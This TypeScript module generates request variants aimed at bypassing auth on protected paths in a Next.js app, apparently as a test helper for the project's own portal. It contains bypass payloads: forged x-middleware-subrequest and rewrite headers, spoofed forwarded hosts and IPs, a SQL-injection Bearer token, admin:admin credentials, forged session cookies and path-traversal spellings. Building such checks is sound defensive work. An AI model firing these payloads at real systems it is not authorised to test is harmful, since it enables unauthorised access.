/** One way to ask for a protected path past whatever stands before it. */
export type Bypass = { name: string; path: string; method?: string; headers?: Record<string, string> };

const five = (word: string) => Array(5).fill(word).join(":");

/** Headers that Next.js, its hosts or reverse proxies act on, among them those of its published proxy bypasses. */
const headerTricks: Record<string, string>[] = [
  ...[
    "proxy",
    "src/proxy",
    "middleware",
    "src/middleware",
    "pages/_middleware",
    five("proxy"),
    five("src/proxy"),
    five("middleware"),
    five("src/middleware"),
  ].map((name) => ({ "x-middleware-subrequest": name })),
  { "x-middleware-next": "1" },
  { "x-middleware-prefetch": "1" },
  { "x-middleware-rewrite": "/sign-in" },
  { "x-middleware-invoke": "1", "x-invoke-path": "/sign-in", "x-invoke-output": "/sign-in" },
  { "x-middleware-set-cookie": "portal.session=anything" },
  { "x-middleware-override-headers": "cookie", "x-middleware-request-cookie": "portal.session=anything" },
  { "x-middleware-override-headers": "authorization", "x-middleware-request-authorization": "Bearer anything" },
  { "x-matched-path": "/sign-in" },
  { "x-now-route-matches": "1=sign-in" },
  { "x-invoke-status": "200" },
  { "x-nextjs-data": "1" },
  { "x-nextjs-html-request-id": "1" },
  { "x-prerender-revalidate": "x", "x-prerender-bypass": "x" },
  { "x-original-url": "/sign-in", "x-rewrite-url": "/sign-in" },
  { "x-forwarded-host": "evil.example", "x-forwarded-proto": "https" },
  { "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1", forwarded: "for=127.0.0.1;host=localhost" },
  { "x-http-method-override": "POST" },
  { "x-portal-wanted": "/sign-in", "x-nonce": "x", "content-security-policy": "script-src 'nonce-x'" },
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-prefetch": "2" },
  ...["/_tree", "/_full", "/_head", "/_index", "/__PAGE__", "/!KHBhcnR5KQ"].map((segment) => ({
    rsc: "1",
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": segment,
  })),
  { rsc: "1", "next-router-state-tree": encodeURIComponent('["",{"children":["sign-in",{"children":["__PAGE__",{}]}]},null,"refetch"]') },
  { "next-action": "00000000000000000000000000000000000000000000" },
  { "next-url": "/sign-in" },
  { purpose: "prefetch", "sec-purpose": "prefetch" },
  { authorization: "Bearer null" },
  { authorization: "Bearer ' or true --" },
  { authorization: "Basic YWRtaW46YWRtaW4=" },
  { cookie: "portal.session=" },
  { cookie: "portal.session=null; portal.session=undefined; __Host-portal.session=1; next-auth.session-token=1" },
  { cookie: "__prerender_bypass=x; __next_preview_data=x" },
];

/** What may stand before a path, after it and in its query without changing, in some server's eyes, which page is meant. */
const before =
  "/ // /. /x/.. /x/%2e%2e /sign-in/.. /sign-in/%2e%2e /sign-in/..%2f /_next/.. /_next/static/../.. /api/.. /default /en /(party) /app /\\ http://localhost";
const after =
  ".rsc .txt .json .html .png .action .meta .body .prefetch.rsc .segments/_tree.segment.rsc / /index /page /route /x.png /favicon.ico ;.png ;x=1 " +
  "%00 %00.png %20 %09 %2f %5c /. /..;/ /%2e \\ %3f.png %23.png";
const queries =
  "_rsc=abc12 nxtPprocess=MP176-MR nxtPmetric=volume&nxtPfile=failures __nextLocale=en __nextDataReq=1 __nextFallback=true amp=1 __flight__=1 " +
  "x-middleware-subrequest=proxy";

/** Other spellings of a path that a server might resolve to the same page. */
function spellingsOf(path: string): string[] {
  const [, first, ...rest] = path.split("/");
  const tail = rest.length > 0 ? `/${rest.join("/")}` : "";
  return [
    ...before.split(" ").map((start) => start + path),
    ...after.split(" ").map((end) => path + end),
    ...queries.split(" ").map((query) => `${path}?${query}`),
    `/./${path.slice(1)}`,
    `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
    `/_next/data/build${path}.json`,
    `/_next/data/build${path}.rsc`,
    path.toUpperCase(),
    `/${first[0].toUpperCase()}${first.slice(1)}${tail}`,
    `/%${first.charCodeAt(0).toString(16)}${first.slice(1)}${tail}`,
    path.replaceAll("/", "%2f").replace("%2f", "/"),
    `/${path.slice(1).replaceAll("/", "//")}`,
  ];
}

/** Every variant of asking for a protected path. */
export function bypassesOf(path: string): Bypass[] {
  return [
    ...headerTricks.map((headers) => ({ name: JSON.stringify(headers), path, headers })),
    ...[...new Set(spellingsOf(path))].map((spelling) => ({ name: spelling, path: spelling })),
    ...spellingsOf(path)
      .slice(0, 12)
      .map((spelling) => ({ name: `rsc ${spelling}`, path: spelling, headers: { rsc: "1" } })),
    ...["HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"].map((method) => ({ name: method, path, method })),
    ...["GET", "HEAD"].map((real) => ({
      name: `POST as ${real}`,
      path,
      method: "POST",
      headers: { "x-http-method-override": real, "x-method-override": real },
    })),
  ];
}
